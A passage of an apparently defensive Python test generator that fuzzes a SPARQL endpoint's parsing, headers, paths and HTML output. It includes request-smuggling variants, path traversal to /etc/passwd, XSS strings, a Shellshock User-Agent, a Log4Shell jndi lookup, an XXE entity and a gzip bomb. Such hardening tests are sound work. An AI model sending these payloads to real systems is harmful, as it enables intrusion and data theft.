    "notes": ("{| <urn:p> 1 ", "", " |}", "ASK {{ ?s ?p ?o {} }}"),
    "open braces only": ("{", "", "", "{}"),
    "closing braces only": ("}", "", "", "ASK {{ {}"),
}


def nestings() -> Iterator[Case]:
    """Nesting to 2,500 levels and, where there is room, to more than any stack holds."""
    for name, (start, middle, end, around) in NESTINGS.items():
        room = 90_000 // len(start + end)
        for levels in {2500, min(room, 30_000)}:
            query = around.format(start * levels + middle + end * levels)
            yield by_body(
                f"{levels} levels of {name}", DEATH, query, ("format", "csv"), DEADLINE,
                statuses=TOO_DEEP, seconds=SHORT, answer=_flat(name, levels),
            )  # fmt: skip


def _flat(name: str, levels: int) -> str | None:
    """Return the right answer, where the engine may come to the end of it after all."""
    yes = {"or": True, "and": True, "no": levels % 2 == 0}
    if name in yes:
        return str(yes[name]).lower()
    return f"x\r\n{levels + 1}\r\n" if name == "sums" else None


HARMLESS = {
    # The engine's regular expressions take linear time, so these are answered at once.
    "(a+)+$": ('REGEX("aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaab", "^(a+)+$")', "false"),
    "(a|aa)+$": ('REGEX("aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaab", "^(a|aa)+$")', "false"),
    "(.*)*x": ('REGEX("aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa", "(.*)*(.*)*x")', "false"),
    "a{1000}{1000}": ('REGEX("a", "((a{1000}){1000}){1000}")', ""),
    "\\p{L}{2000}": ('REGEX("a", "(\\\\p{L}{500}){500}")', ""),
    "back reference": ('REGEX("aa", "(a)\\\\1")', ""),
    "look ahead": ('REGEX("aa", "(?=a)a")', ""),
    "an open bracket": ('REGEX("aa", "(((")', ""),
    "the greatest number and one": ("9223372036854775807 + 1", ""),
    "the least number negated": ("- (-9223372036854775807 - 1)", ""),
    "the least number divided": ("(-9223372036854775807 - 1) / -1", "9223372036854775808"),
    "divided by nothing": ("1 / 0", ""),
    "a substring of the greatest": ('SUBSTR("abc", 9223372036854775807, 9223372036854775807)', ""),
    "a substring of the least": ('SUBSTR("abc", -9223372036854775808, 9223372036854775807)', ""),
    "a substring of nothing": ('SUBSTR("abc", 0e0/0e0)', ""),
    "rounded": ("ROUND(1e308 * 10)", "INF"),
    "a year too great": ('YEAR("99999999999999999999-01-01"^^xsd:date)', ""),
    "a duration too long": ('"2000-01-01T00:00:00"^^xsd:dateTime + '
    '"P99999999999999999Y"^^xsd:duration', ""),
    "a number too long": (f'"{"9" * 5000}"^^xsd:integer + 1', ""),
    "a decimal too long": (f'"0.{"9" * 5000}"^^xsd:decimal + 1', ""),
    "a cast of much": (f'xsd:integer("{"1" * 5000}")', ""),
    "an IRI of nothing good": ('STR(IRI("http://[::1"))', ""),
    "a language of nothing good": ('STRLANG("a", "<script>")', ""),
    "an unknown function": ("<urn:no-such-function>(1)", ""),
}  # fmt: skip


def expressions() -> Iterator[Case]:
    """Expressions at the edges of what can be computed: the right value, or none."""
    for name, (expression, value) in HARMLESS.items():
        query = (
            "PREFIX xsd: <http://www.w3.org/2001/XMLSchema#> "
            f"SELECT (({expression}) AS ?x) WHERE {{}}"
        )
        yield by_form(
            f"expression: {name}", DEATH, query, ("format", "csv"),
            statuses=(400, 422), answer=f"x\r\n{value}\r\n",
        )  # fmt: skip


# P: the protocol

DEATH_QUERY = ENDLESS["count"]
YES = "ASK {}"
RIGHT = "true"  # the answer to it as CSV
JSON_YES = '{"head":{},"boolean":true}'
CSV = ("format", "csv")
EVIL = "evil.example"
HEAVY = "x" * 100_000
BAD_UTF8 = {
    "a lone byte": "%FF",
    "too long a form": "%C0%AF",
    "half of a pair": "%ED%A0%80",
    "beyond the last": "%F4%90%80%80",
    "cut short": "%E4%B8",
}


def encodings() -> Iterator[Case]:
    """What is not UTF-8, or says that it is something else."""
    for name, bad in BAD_UTF8.items():
        path = f"/sparql?query={quote('ASK {} #')}{bad}"
        yield Case(f"{name} in the address", PROTOCOL, REFUSED, path=path)
        body = f"query={quote('ASK {} #')}{bad}"
        yield posted(f"{name} in a form", PROTOCOL, FORM, body, statuses=REFUSED)
    paths = {
        "in a parameter's name": "/sparql?query=ASK+{}&%FF=1",
        "in a format": "/sparql?query=ASK+{}&format=%FF",
        "in the name of a graph": "/data?graph=urn:%FF",
        "in a place": "/queries/ties-of?city=%FF",
        "in a path": "/id/place/%FF",
        "in the name of a query": "/queries/%FF",
        "in the name of a download": "/downloads/%FF",
    }
    for name, path in paths.items():
        yield Case(f"a lone byte {name}", PROTOCOL, (400, 404), path=path)
    media = (("Content-Type", QUERY),)
    bodies = {
        "a lone byte": b"ASK {} # \xff",
        "Latin-1": "ASK {} # é".encode("latin-1"),
        "UTF-16": YES.encode("utf-16"),
        "UTF-32": YES.encode("utf-32"),
        "nothing but zeros": b"\x00" * 1000,
        "random bytes": bytes(range(256)) * 40,
    }
    for name, body in bodies.items():
        yield Case(f"{name} as a body", PROTOCOL, REFUSED, "POST", headers=media, body=body)
    for charset in ("utf-16", "utf-7", "iso-8859-1", "x" * 1000, '"utf-8\\', "\u00fctf-8"):
        yield posted(f"charset {charset[:10]}", PROTOCOL, f"{QUERY}; charset={charset}", YES,
                     statuses=REFUSED, answer=JSON_YES if "tf-8" in charset else None)  # fmt: skip


PARAMETERS = {
    "an empty query": "query=&default-graph-uri=urn:x",
    "spaces only": "query=+%20%09&named-graph-uri=urn:x",
    "the query under another name": "QUERY=ASK+{}&query[]=ASK+{}&default-graph-uri=urn:x",
    "two queries": "query=ASK+{}&query=ASK+{}",
    "two queries, one of them empty": "query=&query=ASK+{}",
    "10,000 parameters": "query=ASK+{}" + "&x=1" * 10_000,
    "10,000 graphs": "query=ASK+{}" + "&default-graph-uri=urn:x" * 10_000,
    "a zero byte": "query=ASK+{}%00",
    "an unknown format": "query=ASK+{}&format=../../x",
    "a format of a file": "query=ASK+{}&format=%2Fetc%2Fpasswd%00csv",
    "a good format and a bad": "query=ASK+{}&format=csv&format=x",
    "a long format": f"query=ASK+{{}}&format={'x' * 50_000}",
    "a graph without a name": "query=ASK+{}&default-graph-uri=x",
    "a graph of many words": f"query=ASK+{{}}&named-graph-uri=urn:{quote('> } DROP ALL')}",
    "a query encoded twice": "query=ASK%2520%257B%257D",
    "an entity": "query=%3C!DOCTYPE+x+[%3C!ENTITY+e+SYSTEM+%22file:///etc/passwd%22%3E]%3E",
    "words of another language": "query=SELECT+*+FROM+users%3B--",
    "a canned query's parameters": "query=ASK+{+?s+?p+?_city+}",
    "half a sign": "query=ASK+{}+%23%",
}
TIMEOUTS = ("abc", "-1", "0", "-0", "1e999", "inf", "nan", "0x10", "1;2", "1 2", "true", "1,5",
            "9" * 5000 + "x")  # fmt: skip
SPLITS = {
    "a format": "/sparql?query=ASK+{}&format=csv%0D%0AX-Evil:%201",
    "a graph": "/data?graph=urn:x%0D%0AX-Evil:%201",
    "a language": "/no-such-page?lang=en%0D%0AX-Evil:%201",
    "the name of a query": "/queries/x%0D%0AX-Evil:%201",
    "the name of a download": "/downloads/x%0D%0AX-Evil:%201",
    "a path": "/%0D%0AX-Evil:%201%0D%0A%0D%0A<script>",
    "a place": "/queries/ties-of?city=%0D%0AX-Evil:%201",
    "a path, in other letters": "/queries/x%E5%98%8A%E5%98%8DX-Evil:1",
}


def parameters() -> Iterator[Case]:
    """Parameters that are too many, too odd, or more than one."""
    for name, encoded in PARAMETERS.items():
        # Half a sign is a sign by the rules of addresses; that query is an answer or an error.
        answer = JSON_YES if name == "half a sign" else None
        large = len(encoded) > 8000
        if not large:
            yield Case(name, PROTOCOL, REFUSED, path=f"/sparql?{encoded}", answer=answer)
        else:
            yield Case(f"{name} in the address", PROTOCOL, (400, 414, 431),
                       path=f"/sparql?{encoded}")  # fmt: skip
        if large or "two" in name:
            yield posted(f"{name} in a form", PROTOCOL, FORM, encoded, statuses=REFUSED)
    yield by_body("a query in the address and one in the body", PROTOCOL, YES, ("query", YES),
                  statuses=REFUSED)  # fmt: skip
    for text in TIMEOUTS:
        yield by_form(f"timeout {text[:10]}", PROTOCOL, YES, ("timeout", text), statuses=REFUSED)
    for text in ("nan", "1e999", "-1"):
        yield by_get(f"death with timeout {text}", PROTOCOL, DEATH_QUERY, ("timeout", text),
                     statuses=(400, 504))  # fmt: skip
    for text in ("1000000", "1e300"):
        yield by_get(f"death with timeout {text}", PROTOCOL, DEATH_QUERY, ("timeout", text),
                     statuses=STOPPED)  # fmt: skip
    yield by_get("hardly any time", PROTOCOL, DEATH_QUERY, ("timeout", "1e-300"),
                 statuses=STOPPED, seconds=0.1)  # fmt: skip
    two = (("timeout", "0.2"), ("timeout", "999"))
    yield by_get("two timeouts", PROTOCOL, DEATH_QUERY, *two, statuses=(400, 504))
    for name, path in SPLITS.items():
        yield Case(
            f"a second line in {name}", PROTOCOL, (400, 404), path=path, absent=("'x-evil'",)
        )


COMPRESSED = gzip.compress(YES.encode(), mtime=0)
BOMB = gzip.compress(b" " * 10_000_000, mtime=0)
PARTS = (
    b'--b\r\nContent-Disposition: form-data; name="query"; filename="../../x"\r\n\r\nASK {}\r\n'
    b"--b--\r\n"
)


def bodies() -> Iterator[Case]:
    """Bodies of unknown kinds, compressed ones, and ones that are too large."""
    kinds = {
        "text/plain": YES.encode(),
        "application/json": b'{"query": "ASK {}"}',
        "multipart/form-data; boundary=b": PARTS,
        "multipart/form-data": PARTS,
        "text/turtle": b"<urn:a> <urn:b> <urn:c> .",
        "application/xml": b'<!DOCTYPE x [<!ENTITY e SYSTEM "http://127.0.0.1:LPORT/">]><x>&e;</x>',
        "application/x-www-form-urlencodedx": b"query=ASK+%7B%7D",
        "a/b/c;;;=": b"ASK {}",
        "application/sparql-results+json": b"{}",
        "": b"ASK {}",
        ";" * 20_000: b"ASK {}",
    }
    for kind, body in kinds.items():
        yield Case(f"a body of type {kind[:40]}", PROTOCOL, (400, 415), "POST",
                   headers=(("Content-Type", kind),), body=body)  # fmt: skip
    yield Case("a body of no type", PROTOCOL, (400, 415), "POST", body=b"ASK {}")
    for coding, body in (("gzip", COMPRESSED), ("x-gzip", COMPRESSED), ("deflate", b"x"),
                         ("br", b"x"), ("gzip, gzip", COMPRESSED), ("GZIP", BOMB)):  # fmt: skip
        headers = (("Content-Type", QUERY), ("Content-Encoding", coding))
        yield Case(f"a body packed by {coding}", PROTOCOL, (415,), "POST", headers=headers,
                   body=body)  # fmt: skip
    yield Case("gzip without a word", PROTOCOL, REFUSED, "POST",
               headers=(("Content-Type", QUERY),), body=COMPRESSED)  # fmt: skip
    sizes = {
        "a body of 2 MB": 2_000_000,
        "a body of 20 MB": 20_000_000,
        "a body of 600 kB": 600_000,
    }
    for name, size in sizes.items():
        for media in (QUERY, FORM):
            yield posted(f"{name} as {media[12:20]}", PROTOCOL, media, "query=" + "x" * size,
                         statuses=(413,))  # fmt: skip
    yield by_body("a query of 200 kB", PROTOCOL, f"ASK {{}} #{'x' * 200_000}", statuses=(400, 413))
    for size in (300_000, 200_000, 20_000):
        yield by_get(
            f"an address of {size:,} signs", PROTOCOL, f"ASK {{}} #{'x' * size}", CSV,
            statuses=(400, 414, 431), answer=RIGHT if size < 100_000 else None,
        )  # fmt: skip


UNACCEPTABLE = {
    "a picture": "image/png",
    "nothing": "*/*;q=0",
    "the least of nothing": "*/*;q=0.000, text/csv;q=0",
    "100 kB": "a/b, " * 20_000,
    "100 kB of weights": "a/b;q=0.1," * 10_000,
    "100 kB in one word": HEAVY,
    "100 kB of semicolons": "a/b" + ";" * 100_000,
    "100 kB of spaces": "a/b" + " " * 100_000 + ";q=1",
    "commas": "," * 1000 + "x",
    "a script": "<script>alert(1)</script>",
}
# What is no Accept at all may be overlooked.
UNREADABLE = {
    "less than nothing": "text/csv;q=-1",
    "no number": "image/png;q=abc",
    "nan": "image/png;q=nan",
    "100 kB of quotes": 'a/b;x="' + '\\"' * 50_000,
}
ODD_HEADERS = {
    "a language of 100 kB": ("Accept-Language", "xx-yy;q=0.5," * 8000),
    "a language of hyphens": ("Accept-Language", "-".join(["en"] * 30_000)),
    "codings of 100 kB": ("Accept-Encoding", "gzip;q=0," * 10_000),
    "tags of 100 kB": ("If-None-Match", '"a",' * 25_000),
    "a tag without an end": ("If-None-Match", '"' * 50_001),
    "cookies of 100 kB": ("Cookie", "a=b; " * 20_000),
    "a forged client": ("X-Forwarded-For", f"{EVIL}, " * 1000),
    "a forged host": ("X-Forwarded-Host", EVIL),
    "a forged scheme": ("X-Forwarded-Proto", "javascript"),
    "a forged prefix": ("X-Forwarded-Prefix", f"//{EVIL}/"),
    "a forged forward": ("Forwarded", f"for={EVIL};host={EVIL}"),
    "a forged path": ("X-Original-URL", "/metrics"),
    "an origin": ("Origin", f"https://{EVIL}"),
    "a referrer": ("Referer", f"https://{EVIL}/<script>"),
    "another protocol": ("Upgrade", "h2c"),
    "ranges": ("Range", "bytes=" + ",".join(f"{n}-{n}" for n in range(5000))),
    "a range that is none": ("Range", "bytes=9999999999999999999999-"),
    "a time that is none": ("If-Modified-Since", "Thu, 99 Foo 99999 99:99:99 GMT"),
    "a password": ("Authorization", "Basic " + "=" * 1000),
    "a shell's function": ("User-Agent", "() { :; }; /bin/cat /etc/passwd"),
    "a lookup": ("User-Agent", "${jndi:ldap://127.0.0.1:LPORT/x}"),
    "an early trailer": ("Trailer", "Content-Length"),
    "a word that is not ASCII": ("X-Word", "é한"),
}


def headers() -> Iterator[Case]:
    """Headers that are long, wrong or forged: the right answer, or an error."""
    for name, accept in UNACCEPTABLE.items():
        yield by_get(f"accept {name}", PROTOCOL, YES, statuses=(400, 406, 431),
                     headers=(("Accept", accept),))  # fmt: skip
    for name, accept in UNREADABLE.items():
        yield by_get(f"accept {name}", PROTOCOL, YES, statuses=(400, 406), answer=JSON_YES,
                     headers=(("Accept", accept),))  # fmt: skip
    for name, header in ODD_HEADERS.items():
        for path in ("/sparql?" + urlencode([("query", YES), CSV]), "/no-such-page"):
            yield Case(
                f"{name} for {path[1:7]}", PROTOCOL, (400, 404, 431), path=path, headers=(header,),
                answer=RIGHT if "sparql" in path else None, absent=(EVIL,),
            )  # fmt: skip
    for kind in ("ranges", "a range that is none"):
        yield Case(f"{kind} of a download", PROTOCOL, (400, 416), path="/downloads/kg.trig",
                   headers=(ODD_HEADERS[kind],), shows="small graph for the tests")  # fmt: skip


HOSTS = (EVIL, f"{EVIL}:80", f"127.0.0.1@{EVIL}", f'"><script src=//{EVIL}>', f"[{EVIL}",
         f"a, {EVIL}", f"{EVIL}:99999", f"{EVIL}/path", "." * 300 + EVIL)  # fmt: skip
PLACES = {
    "/": "Municipal diplomacy",
    "/sparql": "Ask the graph anything",
    "/queries/": "Questions",
    "/downloads/": "kg.trig",
    "/id/place/kr-seoul": "Seoul",
}


def hosts() -> Iterator[Case]:
    """The name of the server is not the client's to choose; nothing is sent on to others."""
    for host, (path, words) in zip(HOSTS, cycle(PLACES.items()), strict=False):
        yield Case(
            f"host {host[-25:]}", PROTOCOL, REFUSED, path=path, shows=words, absent=(EVIL,),
            headers=(("Host", host), ("Accept", PAGE)),
        )  # fmt: skip
    asked = f"/sparql?{urlencode([('query', YES), CSV])}"
    lines = {
        "two hosts": f"GET {asked} HTTP/1.1\nHost: a.example\nHost: {EVIL}",
        "no host": f"GET {asked} HTTP/1.1",
        "a whole address": f"GET http://{EVIL}{asked} HTTP/1.1\nHost: a.example",
        "a whole address with a user": f"GET http://a@{EVIL}:80{asked} HTTP/1.1\nHost: a.example",
        "a whole address of ftp": f"GET ftp://{EVIL}{asked} HTTP/1.1\nHost: a.example",
    }
    for name, text in lines.items():
        yield raw(name, text, (400,), answer=RIGHT, absent=(EVIL,))
    for name, target in {
        "another server": "http://127.0.0.1:LPORT/x",
        "another server over TLS": "https://127.0.0.1:LPORT/x",
        "half of IPv6": "http://[::1/",
        "brackets": "http://a]b/",
        "a future version of IP": "http://[v1.x]/x",
        "two slashes": f"//{EVIL}/x",
        "back slashes": f"\\\\{EVIL}\\x",
        "a port of letters": "http://a:b/x",
        "no path": "x",
        "a script": "javascript:alert(1)",
    }.items():
        text = f"GET {target} HTTP/1.1\nHost: a.example"
        yield raw(f"an address of {name}", text, (400, 404))


def raw(name: str, text: str | bytes, statuses: tuple[int, ...], body: bytes = b"", **more) -> Case:
    """Return a case of a head in lines, sent as it is, with a body."""
    if isinstance(text, str):
        text = text.replace("\n", "\r\n").encode("latin-1") + b"\r\n\r\n"
    return Case(name, PROTOCOL, statuses, raw=text + body, **more)


METHODS = ("TRACE", "TRACK", "CONNECT", "PROPFIND", "MOVE", "SEARCH", "QUERY", "BREW", "GETT",
           "PRI", "X" * 5000)  # fmt: skip
LINES = {
    "a method in small letters": "get /sparql HTTP/1.1\nHost: a",
    "no method": " /sparql HTTP/1.1\nHost: a",
    "no address": "GET HTTP/1.1\nHost: a",
    "a method only": "GET",
    "two spaces": "GET  /sparql  HTTP/1.1\nHost: a",
    "tabs": "GET\t/sparql\tHTTP/1.1\nHost: a",
    "spaces in the address": "GET /sparql?query=ASK {} HTTP/1.1\nHost: a",
    "another protocol": "GET /sparql FOO/1.1\nHost: a",
    "a version of three": "GET /sparql HTTP/1.1.1\nHost: a",
    "a version of letters": "GET /sparql HTTP/x.y\nHost: a",
    "a zero byte": "GET /spa\0rql HTTP/1.1\nHost: a",
    "a greeting": "HELO a.example",
    "a proxy's line": "PROXY TCP4 1.2.3.4 5.6.7.8 1 2\nGET / HTTP/1.1\nHost: a",
    "a tunnel to the listener": "CONNECT 127.0.0.1:LPORT HTTP/1.1\nHost: a",
    "HTTP/2": "PRI * HTTP/2.0\n\nSM",
    "a header without a colon": "GET / HTTP/1.1\nHost: a\nnonsense",
    "a header without a name": "GET / HTTP/1.1\nHost: a\n: x",
    "a space before the colon": "GET / HTTP/1.1\nHost: a\nContent-Length : 5",
    "a first header that goes on": "GET / HTTP/1.1\n Host: a",
    "a zero byte in a value": "GET / HTTP/1.1\nHost: a\nX: a\0b",
    "a zero byte in a name": "GET / HTTP/1.1\nHost: a\nX\0Y: a",
    "brackets in a name": "GET / HTTP/1.1\nHost: a\nX(Y): a",
}
LARGE_HEADS = {
    "a line of 300 kB": f"GET /{'x' * 300_000} HTTP/1.1\nHost: a",
    "a header of 300 kB": f"GET / HTTP/1.1\nHost: a\nX: {'x' * 300_000}",
    "a header's name of 300 kB": f"GET / HTTP/1.1\nHost: a\n{'X' * 300_000}: x",
    "30,000 headers": "GET / HTTP/1.1\nHost: a" + "\nX: abcde" * 30_000,
    "no end of 300 kB": f"GET /{'x' * 300_000}",
}
BARE = {
    "a bare LF in a header": b"GET / HTTP/1.1\r\nHost: a\r\nX: a\nY: b\r\n\r\n",
    "a bare CR in a header": b"GET / HTTP/1.1\r\nHost: a\r\nX: a\rY: b\r\n\r\n",
    "a bare LF in the first line": b"GET / HTTP/1.1\nHost: a\r\n\r\n",
    "a bare CR in the first line": b"GET / HTTP/1.1\rHost: a\r\n\r\n",
    "random bytes": bytes(range(128, 256)) * 10 + b"\r\n\r\n",
    "zeros": b"\0" * 1000 + b"\r\n\r\n",
}
UNFINISHED = {
    "nothing at all": b"",
    "nothing but line ends": b"\r\n" * 100,
    "half a line": b"GET /spar",
    "half a head": b"GET / HTTP/1.1\r\nHost: a\r\nX",
    "line ends of Unix": b"GET / HTTP/1.1\nHost: a\n\n",
    "a handshake of TLS": bytes.fromhex("16030100c8010000c40303") + b"\x11" * 200,
    "a greeting of SSH": b"SSH-2.0-OpenSSH_9.0\r\n",
}


def lines() -> Iterator[Case]:
    """Requests whose first line or headers are wrong."""
    for method in METHODS:
        yield Case(
            f"{method[:10]} of the endpoint", PROTOCOL, (400, 405, 501), method,
            headers=(("X-Secret", "a-secret"),), absent=("a-secret",),
        )  # fmt: skip
    yield Case("OPTIONS of everything", PROTOCOL, (400, 404, 405), "OPTIONS", "*", answer="")
    for name, text in LINES.items():
        yield raw(f"a head with {name}", text, (400, 404, 405, 501, 505))
    for name, text in LARGE_HEADS.items():
        yield raw(name, text, (400, 413, 414, 431))
    for name, text in BARE.items():
        yield raw(name, text, (400,))
    for name, text in UNFINISHED.items():
        yield raw(f"unfinished: {name}", text, (400, 408), hang_up=True, half_closed=True)
    asked = f"/sparql?{urlencode([('query', YES), CSV])}"
    # Odd, but right by the rules of HTTP.
    for name, text in {
        "HTTP/0.9": f"GET {asked}",
        "HTTP/1.0": f"GET {asked} HTTP/1.0",
        "HTTP/9.9": f"GET {asked} HTTP/9.9\nHost: a\nConnection: close",
        "empty lines before": f"\n\n\nGET {asked} HTTP/1.1\nHost: a\nConnection: close",
        "a header that goes on": f"GET {asked} HTTP/1.1\nHost: a\nX: a\n b\nConnection: close",
        "a length in other letters": f"GET {asked} HTTP/1.1\nHost: a\nContent_Length: 999",
        "an expectation": f"GET {asked} HTTP/1.1\nHost: a\nExpect: the-unexpected",
    }.items():
        yield raw(name, text, (400, 417, 505), answer=RIGHT)


POST = f"POST /sparql?format=csv HTTP/1.1\nHost: a\nContent-Type: {QUERY}\n"
CHUNKED = POST + "Transfer-Encoding: chunked"
SECOND = b"GET /downloads/ HTTP/1.1\r\nHost: a\r\n\r\n"
LENGTHS = {
    "negative": "-1",
    "with a sign": "+6",
    "of letters": "six",
    "hexadecimal": "0x6",
    "broken": "6.0",
    "two in one": "6, 6",
    "two different in one": "6, 7",
    "empty": "",
    "in other digits": "\u0666",
    "of 5,000 digits": "9" * 5000,
    "a zero byte": "6\0",
}
CHUNKS = {
    "a size of letters": b"zz\r\nASK {}\r\n0\r\n\r\n",
    "a size below nothing": b"-6\r\nASK {}\r\n0\r\n\r\n",
    "a size with a sign": b"+6\r\nASK {}\r\n0\r\n\r\n",
    "a size in hexadecimal's way": b"0x6\r\nASK {}\r\n0\r\n\r\n",
    "a size with a line between": b"0_6\r\nASK {}\r\n0\r\n\r\n",
    "a chunk longer than it says": b"3\r\nASK {}\r\n0\r\n\r\n",
    "line ends of Unix": b"6\nASK {}\n0\n\n" + b" " * 100 + b"\r\n\r\n",
    "a note that is none": b"6;\0=x\r\nASK {}\r\n0\r\n\r\n",
}


def smuggling() -> Iterator[Case]:
    """Bodies that are not as long as they say: never two answers where one is right."""
    for name, length in LENGTHS.items():
        text = (POST + "Content-Length: ").encode() + length.encode() + b"\n"
        head = text.replace(b"\n", b"\r\n") + b"\r\n"
        yield raw(f"a length {name}", head, (400, 413), YES.encode() + SECOND)
    huge = f"{POST}Content-Length: {'9' * 19}"
    yield raw("a length of 19 digits", huge, (400, 413), YES.encode())
    for name, more in {
        "two lengths": "Content-Length: 6\nContent-Length: 60",
        "two equal lengths": "Content-Length: 6\nContent-Length: 6",
        "chunks of another kind": "Transfer-Encoding: xchunked",
        "chunks that are packed": "Transfer-Encoding: gzip, chunked",
        "chunks in the midst": "Transfer-Encoding: chunked, identity",
        "chunks with a space": "Transfer-Encoding : chunked",
        "chunks with a tab": "Transfer-Encoding: \x0bchunked",
        "chunks on a second line": "Transfer-Encoding:\n chunked\nTransfer-Encoding: x",
    }.items():
        yield raw(name, POST + more, (400, 413, 501), YES.encode() + SECOND,
                  answer=RIGHT if "equal" in name else None)  # fmt: skip
    for name, body in CHUNKS.items():
        yield raw(f"chunks with {name}", CHUNKED, (400,), body)
    chunk = b"1000\r\n" + b" " * 4096 + b"\r\n"
    yield raw("chunks of 2 MB", CHUNKED, (413,), chunk * 500)
    yield raw("300,000 chunks", CHUNKED, (400, 413), b"1\r\n \r\n" * 300_000 + b"0\r\n\r\n")
    yield raw("a note of 2 MB", CHUNKED, (400, 413), b"6;x=" + b"x" * 2_000_000)
    good = b"6\r\nASK {}\r\n0\r\n\r\n"
    yield raw("chunks as they ought to be", CHUNKED, (411, 501), good, answer=RIGHT)
    yield raw("a length beside chunks", CHUNKED + "\nContent-Length: 3", (400,), good + SECOND,
              answer=RIGHT)  # fmt: skip
    old = CHUNKED.replace("HTTP/1.1", "HTTP/1.0") + "\nConnection: keep-alive"
    yield raw("chunks to an old server", old, (400, 411, 501), good + SECOND)
    for name, head, body in (
        ("a body cut short", f"{POST}Content-Length: 60", b"ASK {}"),
        ("chunks cut short", CHUNKED, b"6\r\nASK"),
        ("a chunk of no end", CHUNKED, b"f" * 15 + b"\r\nASK {}"),
        ("no last chunk", CHUNKED, b"6\r\nASK {}\r\n"),
    ):
        yield raw(name, head, (400, 413), body, hang_up=True, half_closed=True)
    yield raw("a body longer than it says", f"{POST}Content-Length: 3", (400,), YES.encode())
    yield raw("a body of no length", POST + "X: y", (400,), YES.encode())


OUTSIDE = (
    "../release.json", "..%2Frelease.json", "%2e%2e/release.json", "%2e%2e%2frelease.json",
    "%252e%252e%252frelease.json", "..%5Crelease.json", "....//release.json",
    "%c0%ae%c0%ae/release.json", "%EF%BC%8E%EF%BC%8E%EF%BC%8Frelease.json",
    "../../../../../../etc/passwd", "%2Fetc%2Fpasswd", "/etc/passwd", "kg.trig%00.html",
    "kg.trig/", "kg.trig;x", "KG.TRIG", "store/CURRENT", "./store/CURRENT", "~root/.profile",
    "C:%5Cwindows%5Cwin.ini", "file:///etc/passwd", "%E2%80%A5/release.json", "queries/ties-of.rq",
)  # fmt: skip
SECRET_PATHS = (
    "/.git/config", "/.env", "/console", "/static/../__init__.py", "/static/%2e%2e/__init__.py",
    "/static/..%2f..%2fserver.py", "/static/%2Fetc%2Fpasswd", "/static/", "/proc/self/environ",
    "/id/%2e%2e/%2e%2e/etc/passwd", "/wp-login.php", "/sparql/../../etc/passwd",
    "/queries/%D1%82ies-of", "/queries/ties-of%00", "/queries/ties-of.rq", "/queries/TIES-OF",
    "/queries/..%2fqueries%2fties-of", "/queries/" + "x" * 20_000, "/" + "../" * 2000,
    "/" + "a/" * 5000, "/?__debugger__=yes&cmd=resource&f=style.css",
)  # fmt: skip


def paths() -> Iterator[Case]:
    """Addresses that would lead out of what is served."""
    for name in OUTSIDE:
        shows = "small graph for the tests" if name == "kg.trig/" else None
        yield Case(f"/downloads/{name[:40]}", PROTOCOL, (400, 404), path=f"/downloads/{name}",
                   absent=("root:x:0",), shows=shows)  # fmt: skip
    for name in OUTSIDE[:6]:
        yield Case(f"/queries/{name}", PROTOCOL, (400, 404), path=f"/queries/{name}")
    for path in SECRET_PATHS:
        shows = "Municipal diplomacy" if "debugger" in path else None
        yield Case(f"path {path[:40]}", PROTOCOL, (400, 404), path=path, absent=("root:x:0",),
                   headers=(("Accept", PAGE),), shows=shows)  # fmt: skip


# X: the output

SCRIPT = "<script>alert(1)</script>"
PAYLOADS = {
    "a script": SCRIPT,
    "a picture": '"><img src=x onerror=alert(1)>',
    "the end of everything": "'--></textarea></code></pre></title><svg onload=alert(1)>",
    "an address": "javascript:alert(1)",
    "a template": "{{ 7 * 7 }}{% raw %}",
    "escaped already": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "marks of direction": "\u202e\u2066<b onclick=alert(1)>",
}
BROWSER = (("Accept", PAGE),)


def _shown(where: str, text: str) -> str | None:
    """Return what a page says that is no error."""
    if where == "graph" and ":" in text:
        return "yes"
    # The small graph has a place with such names.
    return SCRIPT if where == "place" and text in (SCRIPT, PAYLOADS["a picture"]) else None


def pages() -> Iterator[Case]:
    """What a stranger wrote, on a page: shown as text, if at all."""
    for name, text in PAYLOADS.items():
        wrong = {"escaped": text if "<" in text else ""}
        quoted = text.replace('"', '\\"')
        bound = f'SELECT ?x WHERE {{ BIND ("{quoted}" AS ?x) }}'
        yield by_get(
            f"{name} as a value", OUTPUT, bound, TEXT_HTML, statuses=(), shows=text, **wrong
        )
        built = f'CONSTRUCT {{ <urn:a> <urn:b> "{quoted}" }} WHERE {{}}'
        shows = text.replace('"', '\\"')
        yield by_form(f"{name} in a triple", OUTPUT, built, TEXT_HTML, statuses=(), shows=shows,
                      **wrong)  # fmt: skip
        yield by_form(f"{name} in a comment", OUTPUT, f"ASK {{}} # {text}", TEXT_HTML, statuses=(),
                      shows=text, **wrong)  # fmt: skip
        yield by_form(f"{name} as a mistake", OUTPUT, f"SELECT\n {text}", TEXT_HTML,
                      statuses=REFUSED, **wrong)  # fmt: skip
        for where, path in {
            "format": f"/sparql?query=ASK+{{}}&format={quote(text)}",
            "timeout": f"/sparql?query=ASK+{{}}&timeout={quote(text)}",
            "graph": f"/sparql?query=ASK+{{}}&default-graph-uri={quote(text)}x",
            "data": f"/data?graph={quote(text)}",
            "path": f"/{quote(text)}",
            "download": f"/downloads/{quote(text)}",
            "question": f"/queries/{quote(text)}",
            "place": f"/queries/ties-of?city={quote(text)}",
            "name of a parameter": f"/queries/ties-of?{quote(text)}=x",
            "language": f"/no-such-page?lang={quote(text)}",
            "suffix": f"/id/place/kr-seoul.{quote(text)}",
        }.items():
            yield Case(f"{name} as {where}", OUTPUT, (400, 404, 406), path=path, headers=BROWSER,
                       shows=_shown(where, text), **wrong)  # fmt: skip


TERMS = {
    "an address that runs": ("<javascript:alert(1)>", "javascript:alert(1)"),
    "an address of data": ("<data:text/html,%3Cscript%3E>", "data:text/html,%3Cscript%3E"),
    "an address with quotes": ("<urn:x'onclick='alert(1)>", "urn:x'onclick='alert(1)"),
    "a language that runs": ('"x"@en-onload', "x"),
    "a type that runs": ('"x"^^<javascript:alert(1)>', "x"),
    "ours, with a script": (
        "<https://w3id.org/municipal-diplomacy/id/x'%22%3E%3Cscript%3E>",
        "id/x'%22%3E%3Cscript%3E",
    ),
    "ours, out of the site": (
        "<https://w3id.org/municipal-diplomacy//evil.example/x>",
        "evil.example/x",
    ),
    "a triple": ('<<( <urn:a> <urn:b> "<script>" )>>', "urn:a"),
}


def terms() -> Iterator[Case]:
    """Terms that a page could take for an address or an attribute."""
    for name, (term, words) in TERMS.items():
